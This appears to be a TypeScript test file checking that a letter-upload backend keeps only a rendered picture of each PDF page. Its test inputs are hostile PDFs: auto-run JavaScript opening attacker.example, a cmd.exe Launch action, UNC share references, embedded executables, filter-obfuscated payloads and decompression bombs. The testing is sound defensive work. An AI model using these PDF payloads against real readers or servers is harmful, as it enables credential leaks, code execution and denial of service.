// Security D7, E4: of a PDF only the drawing of its pages is stored. A corpus of hostile files.
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { beforeAll, describe, expect, test } from 'vitest'
import { drawPages } from '../../../backend/letters/drawPages.ts'
import { drawPdf } from '../../../backend/letters/drawPdf.ts'
import { pdfOf, streamOf } from '../../support/pdf.ts'
import { isComplete, someOf } from '../../support/someOf.ts'

const UNC = '(\\\\\\\\attacker.example\\\\share\\\\letter.pdf)'
const file = `<< /Type /Filespec /F ${UNC} /UF ${UNC} >>`
const action = (text: string) => `/OpenAction << /Type /Action ${text} >>`
const link = (text: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /Border [0 0 0] /A << ${text} >> >>]`
const SCRIPT = '/S /JavaScript /JS (app.launchURL("https://attacker.example"))'
const attached = streamOf('/Type /EmbeddedFile', 'MZ attacked')
const hex = (bytes: Buffer) => `${bytes.toString('hex')}>`
/** Objects 20 and 21 in a stream: an action, and an attachment. */
const packed = (filter: string, encode: (bytes: Buffer) => string | Buffer) => {
  const [first, second] = [`<< ${SCRIPT} >>`, `<< /EF << /F 10 0 R >> /F ${UNC} >>`]
  const head = `20 0 21 ${first.length + 1} `
  const plain = Buffer.from(`${head}${first} ${second}`, 'latin1')
  return streamOf(`/Type /ObjStm /N 2 /First ${head.length} /Filter ${filter}`, encode(plain))
}

/** A busy machine may take longer than the backend allows. */
const LONG_MS = 100_000

let harmless: Uint8Array | null
beforeAll(async () => {
  harmless = await drawPdf(pdfOf(), LONG_MS)
})

test('a letter is drawn as a picture of its page', async () => {
  const { format, width, height } = await sharp(harmless ?? Buffer.alloc(0)).metadata()
  expect([format, width, height]).toEqual(['jpeg', 208, 208])
  const square = await sharp(harmless ?? Buffer.alloc(0))
    .extract({ left: 60, top: 60, width: 80, height: 80 })
    .raw()
    .toBuffer()
  expect(Math.max(...square)).toBeLessThan(20)
})

describe('nothing of a hostile file is stored but its drawing', () => {
  test.each([
    ['a script that opens with the file', pdfOf({ catalog: action(SCRIPT) })],
    ['a script with an escaped name', pdfOf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' })],
    ['scripts by name', pdfOf({ catalog: `/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` })],
    ['scripts of events', pdfOf({ catalog: `/AA << /WC << ${SCRIPT} >> >>`, page: `/AA << /O << ${SCRIPT} >> >>` })],
    ['a program that is started', pdfOf({ catalog: action('/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >>') })],
    ['GoToR to a share', pdfOf({ catalog: action(`/S /GoToR /D [0 /Fit] /F ${file}`) })],
    ['GoToE to a share', pdfOf({ catalog: action(`/S /GoToE /F ${file} /T << /R /C /N (a) >> /D [0 /Fit]`) })],
    ['a link with GoToR to a share', pdfOf({ page: link(`/S /GoToR /D [0 /Fit] /F ${file}`) })],
    ['a link to a website', pdfOf({ page: link('/S /URI /URI (https://attacker.example)') })],
    ['a form that is sent', pdfOf({ catalog: action(`/S /SubmitForm /F << /FS /URL /F (https://a.example) >>`) })],
    ['imported data', pdfOf({ catalog: action(`/S /ImportData /F ${file}`) })],
    [
      'an XFA form',
      pdfOf({
        catalog: '/AcroForm << /Fields [] /XFA 10 0 R >>',
        objects: [streamOf('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')],
      }),
    ],
    [
      'attachments',
      pdfOf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 10 0 R >> /F (a.exe) >>] >> >>',
        objects: [attached],
      }),
    ],
    [
      'media',
      pdfOf({
        page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 1 1] /RichMediaContent << >> >>]',
        objects: [attached],
      }),
    ],
    ['a stream that is another file', pdfOf({ objects: [streamOf(`/F ${file}`, '')], catalog: '/Metadata 10 0 R' })],
    ['metadata', pdfOf({ trailer: '/Info << /Author (somebody) >>' })],
    [
      'objects under two filters',
      pdfOf({
        catalog: '/OpenAction 20 0 R',
        objects: [attached, packed('[/ASCIIHexDecode /FlateDecode]', (plain) => hex(deflateSync(plain)))],
      }),
    ],
    [
      'objects under three filters',
      pdfOf({
        catalog: '/OpenAction 20 0 R /Names << /EmbeddedFiles << /Names [(a) 21 0 R] >> >>',
        objects: [
          attached,
          packed('[/ASCIIHexDecode /ASCIIHexDecode /FlateDecode]', (plain) =>
            hex(Buffer.from(hex(deflateSync(plain)))),
          ),
        ],
      }),
    ],
    ['text behind its end', Buffer.concat([pdfOf(), Buffer.from('<script>alert(1)</script>')])],
  ])('%s', async (_, bytes) => {
    const drawn = await drawPages(bytes)
    expect(drawn && Buffer.from(drawn).equals(Buffer.from(harmless ?? []))).toBe(true)
  })
})

describe('a file is refused', () => {
  /** A Korean text whose font the file does not have. */
  const korean =
    '<< /Type /Font /Subtype /Type0 /BaseFont /HYSMyeongJo-Medium /Encoding /UniKS-UCS2-H /DescendantFonts [<< /Type /Font ' +
    '/Subtype /CIDFontType0 /BaseFont /HYSMyeongJo-Medium /CIDSystemInfo << /Registry (Adobe) /Ordering (Korea1) /Supplement 1 >> >>] >>'
  test.each([
    [
      'that needs a password',
      pdfOf({
        trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
      }),
    ],
    ['without a page', pdfOf({ pages: 0 })],
    ['with eleven pages', pdfOf({ pages: 11 })],
    ['that shows nothing', pdfOf({ content: '1 1 1 rg 0 0 100 100 re f' })],
    [
      'whose Korean letters would be missing from the drawing',
      pdfOf({
        content: 'BT /F 12 Tf 10 90 Td <AE40> Tj ET',
        page: '/Resources << /Font << /F 10 0 R >> >>',
        objects: [korean],
      }),
    ],
    ['that is HTML', Buffer.from('%PDF-1.7 <html><script>alert(1)</script></html> %%EOF')],
  ])('%s', async (_, bytes) => expect((await drawPages(bytes))?.length).toBeUndefined())

  test('that takes longer than allowed', async () => expect((await drawPdf(pdfOf(), 1))?.length).toBeUndefined())
})

describe('a file that expands or never ends costs the server nothing', () => {
  /** Twice as large as the server's limit below, or more. */
  const [SIDE, MEGABYTES] = isComplete ? [30_000, 200] : [15_000, 100]
  const image = () =>
    streamOf(
      `/Type /XObject /Subtype /Image /Width ${SIDE} /Height ${SIDE} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]`,
      deflateSync(deflateSync(Buffer.alloc(MEGABYTES * 1024 * 1024))),
    )
  const form = (content: string) =>
    streamOf(
      '/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X 10 0 R /Y 11 0 R >> >>',
      content,
    )
  const shown = { content: '/X Do', page: '/Resources << /XObject << /X 10 0 R >> >>' }
  test.each(
    someOf(
      [
        [`a picture of ${(SIDE * SIDE) / 1_000_000} megapixels`, () => pdfOf({ ...shown, objects: [image()] })],
        ['a form that draws itself', () => pdfOf({ ...shown, objects: [form('/X Do')] })],
        [
          'two forms that draw each other, many times',
          () => pdfOf({ ...shown, objects: [form('/Y Do '.repeat(100)), form('/X Do '.repeat(100))] }),
        ],
        [
          'a tree of pages that contains itself',
          () => pdfOf({ pages: 1, catalog: '/Pages 10 0 R', objects: ['<< /Type /Pages /Kids [10 0 R] /Count 5 >>'] }),
        ],
        [
          'a drawing of 400 MB',
          () =>
            pdfOf({
              page: '/Contents 10 0 R',
              objects: [streamOf('/Filter /FlateDecode', deflateSync(Buffer.alloc(400 * 1024 * 1024, 32)))],
            }),
        ],
        ['a page as large as a city', () => pdfOf({ page: '/MediaBox [0 0 9000000 9000000]' })],
      ],
      2,
    ),
  )('%s', async (_, file) => {
    const bytes = file()
    const before = process.memoryUsage().rss
    const drawn = await drawPdf(bytes)
    const format = drawn && (await sharp(drawn).metadata()).format
    expect([null, 'jpeg']).toContain(format)
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024)
  })
})
